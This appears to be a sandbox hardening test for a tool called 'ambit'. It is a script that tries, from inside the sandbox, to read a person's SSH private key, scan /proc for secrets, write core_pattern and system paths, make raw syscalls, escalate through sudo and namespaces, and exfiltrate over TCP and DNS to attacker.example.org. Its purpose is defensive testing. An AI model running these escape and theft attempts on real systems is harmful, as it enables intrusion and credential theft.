"""What hostile code tries from inside. Each attempt prints its name and "no",
or "GOT" with what it got. The test looks at the world as well."""
import ctypes, glob, os, socket, subprocess, sys

person, abstract, outside = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, f):
    try:
        got = f()
    except BaseException as e:  # a refusal is the expected end
        print(name, "no:", type(e).__name__, e)
        return
    print(name, "no" if not got else "GOT %r" % (got,))


def read(path):
    with open(path, "rb") as f:
        return f.read(4096)


def sh(cmd):
    p = subprocess.run(cmd, shell=True, capture_output=True, timeout=20)
    return p.stdout if p.returncode == 0 else b""


def link(target):
    os.symlink(target, "planted")
    try:
        return read("planted/.ssh/id_ed25519")
    finally:
        os.unlink("planted")


def unix(address):
    s = socket.socket(socket.AF_UNIX)
    s.connect(address)
    s.sendall(b"hello")
    return "connected to %r" % address


def write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return "wrote " + path


def write_privately(path):
    """May succeed in the sandbox's own /tmp: the test looks at the host's."""
    write(path, "x")


def tcp(host, port):
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(b"GET /stolen HTTP/1.0\r\n\r\n")
    return s.recv(100)


def syscall(number, *args):
    if libc.syscall(number, *args) >= 0:
        return "system call %d went through" % number
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


attempt("read the person's key", lambda: read(person + "/.ssh/id_ed25519"))
attempt("read it through a planted link", lambda: link(person))
attempt("read it through a link that was there", lambda: read("home-link/.ssh/id_ed25519"))
attempt("hard link it", lambda: os.link(person + "/.ssh/id_ed25519", "hard") or "linked")
attempt("read it through /proc/1/root", lambda: read("/proc/1/root" + person + "/.ssh/id_ed25519"))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for f in ["environ", "cmdline"]:
        attempt("secret in /proc/%s/%s" % (pid, f), lambda: b"PERSON_SECRET" in read("/proc/%s/%s" % (pid, f)))
attempt("other processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 1000])
attempt("abstract socket", lambda: unix("\0" + abstract))
for path in glob.glob("/run/**", recursive=True) + glob.glob("/var/run/**", recursive=True) + glob.glob(person + "/../state/run/*"):
    if not path.endswith("/run/ambit/agent.sock"):  # the one that says who the agent is
        attempt("host socket", lambda: unix(path))
attempt("core pattern", lambda: write("/proc/sys/kernel/core_pattern", "|/tmp/owned"))
attempt("sysrq", lambda: write("/proc/sysrq-trigger", "h"))
attempt("cgroup", lambda: write("/sys/fs/cgroup/owned", "1") if os.path.isdir("/sys/fs/cgroup") else "")
attempt("write outside", lambda: write_privately(person + "/owned"))
attempt("write /tmp", lambda: write_privately("/tmp/owned"))
attempt("write /etc", lambda: write("/etc/owned", "x"))
attempt("write /usr", lambda: write("/usr/bin/owned", "x"))
attempt("mknod", lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)) or read("disk"))
attempt("mount", lambda: sh("mount -t tmpfs none /mnt && echo mounted"))
attempt("new user namespace", lambda: sh("unshare -Ur id"))
attempt("other namespaces", lambda: sh("nsenter -t 1 -a id"))
attempt("sudo", lambda: sh("sudo -n id || su -c id root </dev/null"))
attempt("io_uring", lambda: syscall(425, 1, ctypes.create_string_buffer(120)))
attempt("bpf", lambda: syscall(321, 0, ctypes.create_string_buffer(128), 128))
attempt("keyctl", lambda: syscall(250, 0, 0, 0))
attempt("perf", lambda: syscall(298, ctypes.create_string_buffer(128), 0, -1, -1, 0))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM) and "vsock")
attempt("packet socket", lambda: socket.socket(17, socket.SOCK_RAW, 3) and "packet")
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) and "raw")
attempt("AF_ALG", lambda: socket.socket(38, socket.SOCK_SEQPACKET) and "alg")
host, port = outside.rsplit(":", 1)
attempt("the machine's own port", lambda: tcp(host, int(port)))
attempt("a mapped address", lambda: tcp("::ffff:" + host, int(port)))
attempt("a public address", lambda: tcp("93.184.216.34", 80))
attempt("a name", lambda: socket.getaddrinfo("attacker.example.org", 80))
attempt("a name with data", lambda: socket.getaddrinfo("0123456789abcdef.attacker.example.org", 80))
attempt("see the tasks", lambda: b"tester" in sh("ambit tasks --json || ambit tasks --all"))
attempt("revoke a task", lambda: b"revoked" in sh("ambit revoke tester"))
attempt("write a lease off", lambda: b"there is none of that id" in sh("ambit leases write-off 00 --because no 2>&1; true"))
attempt("descriptors", lambda: [os.readlink("/proc/self/fd/" + f) for f in os.listdir("/proc/self/fd")
                               if int(f) > 2 and os.path.exists("/proc/self/fd/" + f)
                               and not os.readlink("/proc/self/fd/" + f).startswith("/proc/")])
print("end")
